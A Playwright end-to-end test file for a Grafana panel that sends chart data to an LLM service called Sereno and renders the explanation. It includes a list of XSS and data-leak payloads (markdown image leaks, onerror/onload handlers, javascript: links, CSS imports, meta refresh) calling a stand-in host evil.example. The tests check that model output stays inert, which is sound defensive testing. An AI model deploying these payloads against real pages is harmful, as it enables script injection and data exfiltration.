"""The panel in a real Chromium, in a real scene, on React 19 and 18: what it shows, sends, keeps and survives."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import Page, expect

from assembly.supervised import eventually
from grafana.conftest import HOSTS, Visitor
from grafana.service_double import TEXT, Service

Visiting = Callable[..., Visitor]
KEY = "sk-sereno-0123456789abcdef"


def start(page: Page) -> None:
    page.get_by_role("button", name="Explain", exact=True).click()


def test_it_tells_and_links_each_figure_to_its_fact(
    visiting: Visiting, every_host: Path, service: tuple[Service, str]
) -> None:
    state, address = service
    visitor = visiting(every_host, address, key=KEY)
    page = visitor.open()
    start(page)
    expect(page.get_by_test_id("verdict")).to_contain_text("2 of 3 figures checked and right")
    answer = page.get_by_test_id("answer")
    # The first character is outside the basic plane: offsets in UTF-16 would cut every figure one too early.
    assert answer.locator("button").all_inner_texts() == ["50 %", "2.7 s"]
    assert answer.locator("[data-supported=false]").all_inner_texts() == ["99 s"]

    answer.get_by_role("button", name="50 %").click()
    expect(page.locator("tr[aria-current=true]")).to_have_attribute("data-fact", "change_point-1")
    answer.get_by_role("button", name="50 %").hover()
    expect(page.get_by_role("tooltip")).to_contain_text("50% (47.5% – 52.5%)")

    # What was sent: the numbers of the chart, times in milliseconds, the key from the server alone.
    sent = state.seen[0]
    names = [(f["name"], f["type"], len(f["values"])) for f in sent["frames"][0]["fields"]]
    assert names == [("time", "time", 288), ("llama3.2", "number", 288), ("smollm2", "number", 288)]
    assert sent["frames"][0]["fields"][1]["unit"] == "s"
    assert (sent["end"], sent["tz"], sent["analysis"], sent["model"]) == (1_763_683_200_000, "UTC", "trends", None)
    assert sent["language"] == "en"
    assert state.headers[0]["x-sereno-key"] == KEY
    assert not {"cookie", "origin", "referer"} & set(state.headers[0])
    assert KEY not in page.content()
    assert all(url.startswith((visitor.base, "data:")) for url in visitor.asked)
    assert (visitor.said, visitor.refused) == ([], [])
    assert page.evaluate("document.documentElement.dataset.react")[:2] == ("19" if every_host.name == "own" else "18")


ATTACKS = (
    "![x](http://evil.example/a.png?leak=27)",
    "<img src=http://evil.example/b.png onerror=\"document.title='owned'\">",
    "<iframe src=http://evil.example/c></iframe>",
    "<script>document.title='owned'</script>",
    "<svg/onload=\"document.title='owned'\">",
    "<link rel=stylesheet href=http://evil.example/d.css>",
    "<style>@import url(http://evil.example/e.css)</style>",
    "[press](javascript:document.title='owned')",
    "<a href=\"javascript:document.title='owned'\">press</a>",
    "[open](data:text/html,<script>document.title='owned'</script>)",
    "<a href=http://evil.example/f>here</a> http://evil.example/g //evil.example/h",
    "<form action=http://evil.example/i><button>send</button></form>",
    "<object data=http://evil.example/j></object><embed src=http://evil.example/k>",
    "<video poster=http://evil.example/l><audio src=http://evil.example/m autoplay>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/n'>",
)


def test_what_a_model_writes_loads_nothing_and_leads_nowhere(
    visiting: Visiting, host: Path, service: tuple[Service, str]
) -> None:
    state, address = service
    state.pause, state.text = 0.0, "\n".join(ATTACKS)
    visitor = visiting(host, address)
    page = visitor.open()
    title = page.title()
    start(page)
    expect(page.get_by_test_id("verdict")).to_be_visible()
    answer = page.get_by_test_id("answer")
    for attack in ATTACKS:
        expect(answer).to_contain_text(attack)
    assert answer.locator(":not(span):not(br)").count() == 0  # words alone
    for word in ("press", "here", "open", "send"):
        answer.get_by_text(word).first.click()
    page.wait_for_load_state("networkidle")
    assert page.title() == title
    assert [url for url in visitor.asked if not url.startswith((visitor.base, "data:"))] == []
    assert visitor.said == []


def test_words_come_as_they_are_told_and_stop_reaches_the_service(
    visiting: Visiting, host: Path, service: tuple[Service, str]
) -> None:
    state, address = service
    state.behave = "hang"
    page = visiting(host, address).open()
    start(page)
    answer = page.get_by_test_id("answer")
    expect(answer).to_contain_text("llama3.2 rose")  # while the service is still telling
    expect(answer).to_have_attribute("aria-busy", "true")
    page.get_by_role("button", name="Stop").click()
    assert eventually(lambda: state.left == 1, "the service hears that nobody reads on")
    expect(answer).to_contain_text("llama3.2 rose")
    expect(page.get_by_role("button", name="Explain", exact=True)).to_be_enabled()


def test_the_whole_answer_can_be_copied(visiting: Visiting, host: Path, service: tuple[Service, str]) -> None:
    state, address = service
    state.pause = 0.0
    visitor = visiting(host, address)
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=visitor.base)
    page = visitor.open()
    expect(page.get_by_role("button", name="Copy")).to_have_count(0)  # there is nothing yet
    start(page)
    expect(page.get_by_test_id("verdict")).to_be_visible()
    page.get_by_role("button", name="Copy").click()
    copied = eventually(lambda: page.evaluate("navigator.clipboard.readText()"), "something in the clipboard")
    assert copied == TEXT
    assert visitor.said == []


FAILURES = {
    "html": "What answers at this address is not Sereno",
    "not-found": "What answers at this address is not Sereno",
    "key": "Sereno does not know the key",
    "busy": "Sereno is busy",
    "cut": "The answer was cut off",
    "model-fails": "The model moondream is not there.",
}


def test_failures_are_told_and_take_nothing_away(visiting: Visiting, built: Path, service: tuple[Service, str]) -> None:
    assert built
    state, address = service
    state.pause = 0.0
    page = visiting(HOSTS["react19"], address).open()
    start(page)
    expect(page.get_by_test_id("verdict")).to_be_visible()
    for behave, sentence in FAILURES.items():
        state.behave = behave
        start(page)
        expect(page.get_by_role("alert")).to_contain_text(sentence)
        expect(page.get_by_test_id("answer")).to_contain_text("llama3.2 rose")
        state.behave = "tell"  # and it recovers without loading the page anew
        page.get_by_role("button", name="Try again").click()
        expect(page.get_by_role("alert")).to_have_count(0)
        expect(page.get_by_test_id("verdict")).to_contain_text("2 of 3")


def test_a_service_that_is_down(visiting: Visiting, built: Path) -> None:
    assert built
    page = visiting(HOSTS["react19"], "http://127.0.0.1:9").open()
    start(page)
    expect(page.get_by_role("alert")).to_contain_text("Sereno does not answer. Check that it runs, and its address")


def test_without_data_the_sentence_says_what_to_do(
    visiting: Visiting, host: Path, service: tuple[Service, str]
) -> None:
    page = visiting(host, service[1]).open(data="none", lang="es-ES")
    expect(page.get_by_text("No hay datos que explicar")).to_be_visible()
    expect(page.get_by_role("button", name="Explicar", exact=True)).to_be_disabled()


def test_options_decide_what_is_asked_and_it_starts_by_itself(
    visiting: Visiting, host: Path, service: tuple[Service, str]
) -> None:
    state, address = service
    options = {"analysis": "question", "question": "Why?", "model": "moondream", "language": "pt-BR", "strict": True,
               "context": "Latency of a shop", "autoRun": True, "interval": 60, "showFacts": False}  # fmt: skip
    page = visiting(host, address).open(options=json.dumps(options))
    expect(page.get_by_test_id("verdict")).to_be_visible()
    asked = {name: state.seen[0][name] for name in ("analysis", "question", "model", "language", "strict", "context")}
    assert asked == {name: options[name] for name in asked}
    expect(page.get_by_test_id("facts")).to_have_count(0)
    page.get_by_role("button", name="2.7 s").click()  # asking for the fact behind a figure shows the table
    expect(page.get_by_test_id("facts")).to_be_visible()
    assert len(state.seen) == 1


def test_thumbs_history_and_a_question(visiting: Visiting, host: Path, service: tuple[Service, str]) -> None:
    state, address = service
    state.pause = 0.0
    page = visiting(host, address).open()
    start(page)
    page.get_by_role("button", name="This helped").click()
    assert eventually(lambda: state.feedback, "feedback") == [{"id": "x-1", "score": 1}]
    page.get_by_role("button", name="History").click()
    page.get_by_test_id("history").get_by_role("button").click()
    expect(page.get_by_test_id("answer")).to_have_text("Two errors at noon.")
    page.get_by_test_id("answer").get_by_role("button", name="Two").click()
    expect(page.locator("tr[aria-current=true]")).to_have_attribute("data-fact", "level-1")
    page.get_by_role("combobox", name="Analysis").click()
    page.get_by_role("option", name="A question").click()
    expect(page.get_by_role("button", name="Explain", exact=True)).to_be_disabled()
    page.get_by_role("textbox", name="Question").fill("Is smollm2 faster?")
    page.keyboard.press("Enter")
    assert eventually(lambda: len(state.seen) == 2, "the question")
    assert state.seen[1]["question"] == "Is smollm2 faster?"


def test_the_menu_of_any_panel_explains_it(visiting: Visiting, host: Path, service: tuple[Service, str]) -> None:
    state, address = service
    visitor = visiting(host, address)
    page = visitor.open("menu")
    page.get_by_role("button", name="Explain this panel").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name="Explain", exact=True).click()
    expect(dialog.get_by_test_id("verdict")).to_contain_text("2 of 3")
    assert state.seen[0]["title"] == "Latency"
    assert visitor.said == []
    nothing = visitor.open("menu", data="none")
    nothing.get_by_role("button", name="Explain this panel").click()
    expect(nothing.get_by_text("This panel has no data yet.")).to_be_visible()


def test_a_model_that_sees_is_given_grafanas_own_picture(
    visiting: Visiting, every_host: Path, service: tuple[Service, str]
) -> None:
    state, address = service
    page = visiting(every_host, address).open("menu")
    page.get_by_role("button", name="Explain this panel").click()
    dialog = page.get_by_role("dialog")
    for number, model in enumerate(("moondream", "smollm2"), 1):
        dialog.get_by_role("combobox", name="Model").click()
        page.get_by_role("option", name=model).click()
        dialog.get_by_role("button", name="Explain", exact=True).click()
        expect(dialog.get_by_test_id("verdict")).to_be_visible()
        expect(dialog.get_by_role("button", name="Explain", exact=True)).to_be_enabled()
        assert len(state.seen) == number
    assert [one.get("image", "")[:26] for one in state.seen] == ["data:image/png;base64,iVBO", ""]


def test_the_option_for_the_model_lists_what_the_service_has(
    visiting: Visiting, host: Path, service: tuple[Service, str]
) -> None:
    page = visiting(host, service[1]).open("options")
    page.get_by_role("combobox", name="Model").click()
    expect(page.get_by_role("option")).to_have_count(4)
    expect(page.get_by_role("option", name="moondream")).to_contain_text("sees pictures")
    page.get_by_role("option", name="smollm2").click()
    expect(page.locator("output")).to_contain_text('"model":"smollm2"')
